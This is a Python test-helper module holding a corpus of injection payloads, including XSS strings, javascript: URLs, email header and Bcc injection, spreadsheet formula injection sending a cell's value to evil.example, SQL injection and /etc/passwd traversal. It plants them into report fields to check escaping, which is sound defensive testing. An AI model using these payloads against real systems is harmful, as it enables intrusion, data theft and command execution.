"""What somebody may write to harm who reads a report, or what reads it: a corpus, and a way to put it everywhere."""

import re
from collections.abc import Callable, Mapping
from dataclasses import fields, is_dataclass, replace
from enum import Enum
from functools import cache
from itertools import count
from typing import Any, TypeVar, cast

from checks.saying import Told

It = TypeVar("It")
KEPT = {"digest", "media_type", "data", "pictures", "kept", "show_trace", "currency"}  # ours
NAMES = {
    "check",
    "checks",
    "key",
    "reference",
}  # by these things are told apart, so each keeps its own beside it
HARMLESS, HARMLESS_LINK = "harmless words", "https://harmless.example/words"

HTML = {
    "tag": "<script>alert(1)</script>",
    "attribute": "\"><img src=x onerror=alert(1)>",
    "single quote": "' onmouseover='alert(1)",
    "backtick": "`onmouseover=alert(1)`",
    "no quotes": "x onfocus=alert(1) autofocus tabindex=1 ",
    "end of style": "</style><script>alert(1)</script>",
    "end of script": "</script><script>alert(1)</script>",
    "end of title": "</title></svg></details><script>alert(1)</script>",
    "end of all": "</bdi></p></td></tr></table></main></body></html><script>alert(1)</script>",
    "comment": "--><!--><script>alert(1)</script>]]>",
    "open comment": "<!--",
    "half a tag": "<img src=x onerror=alert(1) ",
    "text area": "</textarea></noscript></xmp><plaintext><svg onload=alert(1)>",
    "svg": '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a><set attributeName=href to=javascript:alert(1) /></svg>',
    "foreign": "<svg><style><img src=x onerror=alert(1)></style></svg><math><mtext></form><form>",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=data:text/html,x></object>",
    "base": '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "form": '<form action="https://evil.example/"><button autofocus onfocus=alert(1)>',
    "style": "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "css": "x}body{background:url(https://evil.example/x)}/*; expression(alert(1))",
    "css escape": "\\3c script\\3e \\000022;}",
    "template tag": "<template shadowrootmode=open><slot></template><custom-x is=y>",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;&#x202e;&amp;&NewLine;",
    "twice": "&amp;lt;script&amp;gt;<<script>script>alert(1)<</script>/script>",
    "full width": "＜script＞alert(1)＜/script＞",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
}  # fmt: skip
ADDRESSES = {
    "script address": "javascript:alert(1)",
    "script in caps": " \x01JaVa\tScRiPt:alert(1)//https://",
    "script with entities": "&#106;avascript&colon;alert(1)",
    "data address": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vb address": "vbscript:msgbox(1)",
    "file address": "file:///etc/passwd",
    "no scheme": "//evil.example/x",
    "blob": "blob:https://evil.example/1",
    "link": "https://evil.example/'onclick='alert(1)?a=1&lt=2#x",
    "homoglyph": "https://аррӏе.example/login",
    "user in it": "https://bank.example@evil.example/",
    "broken host": "https://[::1/",
    "cid": "cid:trend-1.png",
}
PROGRAMS = {
    "jinja": "{{ 7 * 7 }}{% raw %}{{ config }}{# x",
    "percent": "%(x)s %s %d %n %% %(",
    "braces": "{0} {x} {number} {{}} {self.__class__} {",
    "dollar": "${7*7} #{7*7} $(id) `id` <%= 7*7 %>",
    "line breaks": "x\r\nBcc: evil@evil.example\r\n\r\n<html>smuggled",
    "header": "x\nSubject: other\n\tX-Evil: 1\x0b\x0c\x85Cc: a@evil.example",
    "encoded word": "=?utf-8?q?=0D=0ABcc:_evil@evil.example?=",
    "end of smtp": "x\r\n.\r\nQUIT\r\n",
    "address list": 'a@evil.example, "x" <b@evil.example>;',
    "formula": '=HYPERLINK("https://evil.example/"&A1,"x")',
    "formula cmd": "=cmd|'/C calc'!A0",
    "plus": "+1+cmd|x!A0",
    "minus": "-2+3+cmd|x!A0",
    "at": "@SUM(1+1)*cmd|x!A0",
    "formula after space": " \t\r\n=1+1",
    "formula after nothing": "\u200b\ufeff\u00a0=1+1",
    "formula in full width": "＝1+1",
    "formula behind quote": '";=1+1;"\n=1+1,"',
    "csv": 'a,b;c\t"d""\r\n"e',
    "json": '"}],"x":[{"\\u0022\\',
    "line separators": "\u2028alert(1)\u2029//</script>",
    "pdf": ") Tj ET BT (evil) Tj \\) >> endobj stream (",
    "markdown": "[x](javascript:alert(1)) ![x](https://evil.example/x.png) <@everyone> *x* | y |",
    "sql": "'; DROP TABLE findings; --",
    "path": "../../../../etc/passwd\\..\\con",
    "rich markup": "[red]red[/red] [link=https://evil.example/]x[/link] :smile:",
}
SIGNS = {
    "terminal": "\x1b[31mred\x1b]8;;https://evil.example/\x07link\x9b2J\x1b[2J\x00",
    "backspace": "safe\x08\x08\x08\x08evil\rover",
    "bidi": "\u202egnp.exe\u2066\u200f\u2069 \u061c x",
    "surrogate": "\ud800 half",
    "nul": "a\x00b\x00<script\x00>alert(1)",
    "tags": "x\U000e0001\U000e0068\U000e0069\ufffe\uffff\ufff9y\ufffb",
    "stacked": "Z" + "\u0301" * 500,
    "endless": "a" * 5000,
    "wide": "﷽" * 300,
    "emoji": "👩\u200d👩\u200d👧\u200d👦" * 100,
    "blank": "\u200b\u2060\ufeff\u3164",
    "nothing": "",
    "lines": "x\n" * 300,
    "arabic": "مرحبا بالعالم <b>42</b>",
}
ALL = {**HTML, **ADDRESSES, **PROGRAMS, **SIGNS}


def poisoned(it: It, text: str | Callable[[], str]) -> It:
    """The same with `text` wherever somebody else's text may stand, at any depth.

    Sentences of ours keep their words and get it for their values.
    """
    return cast("It", _walk(it, (lambda: text) if isinstance(text, str) else text, ""))


def in_turn(start: int) -> Callable[[], str]:
    """All of the corpus one after the other, and again."""
    attacks, number = list(ALL.values()), count(start)
    return lambda: attacks[next(number) % len(attacks)]


def _walk(it: object, text: Callable[[], str], name: str) -> object:
    if name in KEPT or isinstance(it, Enum):
        return it
    if isinstance(it, Told):
        return it.each(lambda _: text())
    if isinstance(it, str):
        return text() + it if name in NAMES else text() if it else ""
    if isinstance(it, tuple):
        return tuple(_walk(each, text, name) for each in it)
    if isinstance(it, Mapping):
        return {_walk(key, text, "key"): _walk(value, text, name) for key, value in it.items()}
    if is_dataclass(it) and not isinstance(it, type):
        return replace(cast("Any", it), **{n: _walk(getattr(it, n), text, n) for n in _names(type(it))})
    return it


@cache
def _names(kind: type[Any]) -> tuple[str, ...]:
    return tuple(each.name for each in fields(kind) if each.init)


def baseline(text: str, clean: Callable[[str], str], linked: Callable[[str], bool]) -> str:
    """Harmless text of the same kind: an address that may be linked, a text, or none at all."""
    if linked(text):
        return HARMLESS_LINK
    return HARMLESS if re.sub(r"\s", "", clean(text)) else ""
